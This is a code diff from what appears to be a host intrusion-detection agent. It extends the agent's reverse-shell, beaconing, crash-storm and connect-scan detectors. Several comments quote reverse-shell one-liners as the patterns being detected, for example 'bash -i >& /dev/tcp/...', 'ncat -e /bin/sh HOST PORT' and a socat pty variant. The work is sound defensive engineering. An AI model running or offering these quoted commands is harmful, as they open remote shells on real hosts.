@@ -262,12 +262,40 @@ bool connect_succeeded(const Event& e) {
 }  // namespace
 
 bool Pipeline::relayed_shell() const {
-  // A shell reading commands from its stdin (no -c) through pipes held by a
-  // parent that just connected out: what `ncat -e /bin/sh HOST PORT` leaves.
-  const bool has_command =
-      std::ranges::any_of(event_.args, [](const std::string& a) { return a.starts_with("-c"); });
-  return !has_command && sequences_.recently_connected(event_.ppid, seconds(event_.boot_ns)) &&
-         table_.stdio_is_pipe(event_.pid);
+  // A shell reading commands from its stdin (no -c, no script) whose stdin and
+  // stdout are pipes or a pty, and whose output reaches a process with a TCP
+  // connection out: the parent feeding it through pipes (`ncat -e`, `socat
+  // exec:`), the holder of its pty (`socat exec:'bash -li',pty`, python's
+  // pty.spawn, `script`), or a process of its tree reading its output from a
+  // pipe (`cat f | bash -i 2>&1 | nc HOST PORT > f`). A relay that connects
+  // only after the exec is matched at its connect (stateful_indicators).
+  if (!reads_commands_from_stdin(event_.args)) {
+    return false;
+  }
+  const auto shell = wire_shell(event_.pid, event_.ppid, table_.tree_of(event_.pid),
+                                table_.stdio_wiring(event_.pid));
+  if (!shell) {
+    return false;
+  }
+  const auto* relay = table_.find(shell->relay);
+  if (relay != nullptr && is_login_service(relay->exe)) {
+    return false;  // sshd, tmux, su: a login, not a relay
+  }
+  const double now = seconds(event_.boot_ns);
+  if (shell->relay != 0 &&
+      (shell->relay_on_socket || sequences_.recently_connected(shell->relay, now))) {
+    return true;
+  }
+  std::array<std::uint32_t, 8> peers{};
+  const auto outs = std::span(shell->out).first(shell->n_out);
+  for (const auto peer :
+       std::span(peers).first(sequences_.recent_connects_in(shell->tree, now, peers))) {
+    const FdEnd in = table_.stdio(peer).fd[0];
+    if (in.kind == FdKind::kPipe && std::ranges::find(outs, in.id) != outs.end()) {
+      return true;
+    }
+  }
+  return false;
 }
 
 void Pipeline::stateful_indicators(double now) {
@@ -286,13 +314,33 @@ void Pipeline::stateful_indicators(double now) {
     return std::span<const std::uint32_t>(tree.data(), tree_n);
   };
   const char* const exe_key = event_.exe.empty() ? event_.comm.c_str() : event_.exe.c_str();
+  // Who acted, by process, tree, user and executable: stateful detectors add
+  // work up per unit, so a loop of short-lived processes is one actor.
+  const auto actor = [&] {
+    return Actor{.pid = event_.pid,
+                 .ppid = event_.ppid,
+                 .tree = table_.tree_of(event_.pid),
+                 .uid = event_.uid,
+                 .exe = exe_key};
+  };
   switch (event_.type) {
     case EventType::kExec: {
-      if (is_shell_or_interpreter(event_.exe) &&
-          (table_.stdio_is_socket(event_.pid) || relayed_shell())) {
-        // connect -> dup2 -> exec of a shell (bash -i >& /dev/tcp/..., nc -e),
-        // or connect -> exec of a shell fed through pipes (ncat -e, socat exec).
-        hits_.push_back(find_indicator("reverse-shell"));
+      if (is_shell_or_interpreter(event_.exe)) {
+        if (table_.stdio_is_socket(event_.pid) || relayed_shell()) {
+          // connect -> dup2 -> exec of a shell (bash -i >& /dev/tcp/..., nc -e),
+          // or a shell whose output a connected process relays (pipes, pty).
+          hits_.push_back(find_indicator("reverse-shell"));
+        } else if (reads_commands_from_stdin(event_.args)) {
+          // The relay may connect after the exec (a pipeline's members start
+          // together): remember the shell's wiring for the relay window.
+          const auto shell = wire_shell(event_.pid, event_.ppid, table_.tree_of(event_.pid),
+                                        table_.stdio_wiring(event_.pid));
+          const auto* relay = shell ? table_.find(shell->relay) : nullptr;
+          if (shell && (shell->relay != 0 || shell->n_out != 0) &&
+              (relay == nullptr || !is_login_service(relay->exe))) {
+            sequences_.shell_waiting(*shell, now);
+          }
+        }
       }
       // Host memory: a parent->child pair this host has never run.
       const auto* parent = table_.find(event_.ppid);
@@ -305,20 +353,34 @@ void Pipeline::stateful_indicators(double now) {
         }
       }
       // Patterns ending in an exec.
-      if (writable_location(event_.exe) && sequences_.exec_of_dropped(event_.exe, lineage(), now)) {
+      if (writable_location(event_.exe) &&
+          sequences_.exec_of_dropped(event_.exe, lineage(), actor(), now)) {
         hits_.push_back(find_indicator("dropped-exec"));
       }
-      if (sequences_.watching_connects() && sequences_.exec_after_scan_connect(lineage(), now)) {
+      if (sequences_.watching_connects() &&
+          sequences_.exec_after_scan_connect(lineage(), actor(), now)) {
         hits_.push_back(find_indicator("scan-connect-exec"));
       }
       return;
     }
+    case EventType::kExit: {
+      // Crash storms spread over processes (copies of a binary, many binaries):
+      // fatal-signal deaths add up per tree and per user.
+      if (is_crash_signal(std::get<ExitData>(event_.data).signal) &&
+          crash_spread_.observe(actor(), now) != Spread::kNone) {
+        hits_.push_back(find_indicator("crash-storm"));
+      }
+      return;
+    }
+    case EventType::kCrashStorm:
+      crash_spread_.reported(actor(), now);  // the kernel's storm: one finding, not two
+      return;
     case EventType::kFile: {
       const auto& f = std::get<FileData>(event_.data);
       if (f.op == VIGIL_FILE_CHMOD && f.ret == 0 && (f.mode & 0111U) != 0 &&
           writable_location(f.path) && !is_toolchain(event_.exe) &&
           freshly_written(f.path, event_.ts_ns)) {
-        sequences_.made_executable(f.path, event_.pid, event_.ppid, now);  // write -> chmod +x
+        sequences_.made_executable(f.path, actor(), now);  // write -> chmod +x
       }
       return;
     }
@@ -346,19 +408,41 @@ void Pipeline::stateful_indicators(double now) {
       }
       return;
     }
+    case EventType::kAccept:
     case EventType::kConnect:
     case EventType::kConnectFailed:
     case EventType::kUdpSend: {
       const auto& sock = std::get<SockData>(event_.data);
-      if (event_.type != EventType::kUdpSend && sock.ret < 0 && sock.ret != -EINPROGRESS &&
-          connect_scans_.observe(event_.pid, sock.rport, now)) {
-        hits_.push_back(find_indicator("connect-scan"));
-        sequences_.scanned(event_.pid, event_.ppid, now);
+      const bool linked =
+          sock.proto == kProtoTcp &&
+          (event_.type == EventType::kAccept ? sock.ret >= 0 : connect_succeeded(event_));
+      if (linked) {
+        const auto a = actor();
+        if (event_.type == EventType::kConnect) {
+          sequences_.connected_out(a.pid, a.tree, now);
+        }
+        // A shell waiting for its relay: does this process read its output?
+        if (sequences_.shells_waiting(a.tree, now) && !is_login_service(event_.exe)) {
+          const FdEnd in = table_.stdio(event_.pid).fd[0];
+          if (sequences_.relay_connected(a.pid, a.tree, in.kind == FdKind::kPipe ? in.id : 0,
+                                         now)) {
+            hits_.push_back(find_indicator("reverse-shell"));
+          }
+        }
+      }
+      if (event_.type == EventType::kAccept) {
+        return;
+      }
+      if (event_.type != EventType::kUdpSend && sock.ret < 0 && sock.ret != -EINPROGRESS) {
+        const auto a = actor();
+        if (connect_scans_.observe(a, sock.raddr, sock.rport, now) != Spread::kNone) {
+          hits_.push_back(find_indicator("connect-scan"));
+          sequences_.scanned(a, now);
+        }
       }
       if (connect_succeeded(event_)) {
-        sequences_.connected_out(event_.pid, now);
         if (sequences_.watching_scans()) {
-          sequences_.connected(lineage(), now);  // scan -> connect
+          sequences_.connected(lineage(), actor(), now);  // scan -> connect
         }
         // Host memory: which programs talk to which remote ports.
         key_buf_.assign("port>");
@@ -368,13 +452,40 @@ void Pipeline::stateful_indicators(double now) {
           hits_.push_back(find_indicator("novel-exe-port"));
         }
       }
-      // Rhythm: one program contacting one destination at a steady period.
+      // Rhythm: one destination contacted at a steady period by one program,
+      // one process tree (a new curl per callback, renamed copies) or one user.
+      // Each unit's rhythm is kept on every contact; a beacon is reported once
+      // per (unit, destination) new for this host: periodic services seen
+      // during warm-up are learned.
+      const auto a = actor();
+      const auto ts = seconds(event_.ts_ns);
+      bool beacon = false;
       key_buf_.assign("beacon>");
       key_buf_.append(exe_key);
       fmt::format_to(std::back_inserter(key_buf_), ">{}:{}", sock.raddr, sock.rport);
-      if (rhythm_.observe(key_buf_, now) > 0 &&
-          baseline_.observe(key_buf_, seconds(event_.ts_ns))) {
-        // New for this host: periodic services seen during warm-up are learned.
+      if (rhythm_.observe(key_buf_, now) > 0) {
+        beacon |= baseline_.observe(key_buf_, ts);
+      }
+      if (a.tree > 1) {
+        key_buf_.clear();
+        fmt::format_to(std::back_inserter(key_buf_), "beacon>t{}>{}:{}", a.tree, sock.raddr,
+                       sock.rport);
+        if (rhythm_.observe(key_buf_, now) > 0) {
+          // Learned by the tree's root program: the pid is not stable, the program is.
+          const auto* root = table_.find(a.tree);
+          key_buf_.assign("beacon>tree:");
+          key_buf_.append(root != nullptr && !root->exe.empty() ? root->exe : "?");
+          fmt::format_to(std::back_inserter(key_buf_), ">{}:{}", sock.raddr, sock.rport);
+          beacon |= baseline_.observe(key_buf_, ts);
+        }
+      }
+      key_buf_.clear();
+      fmt::format_to(std::back_inserter(key_buf_), "beacon>uid:{}>{}:{}", a.uid, sock.raddr,
+                     sock.rport);
+      if (rhythm_.observe(key_buf_, now) > 0) {
+        beacon |= baseline_.observe(key_buf_, ts);
+      }
+      if (beacon) {
         hits_.push_back(find_indicator("beaconing"));
       }
       return;
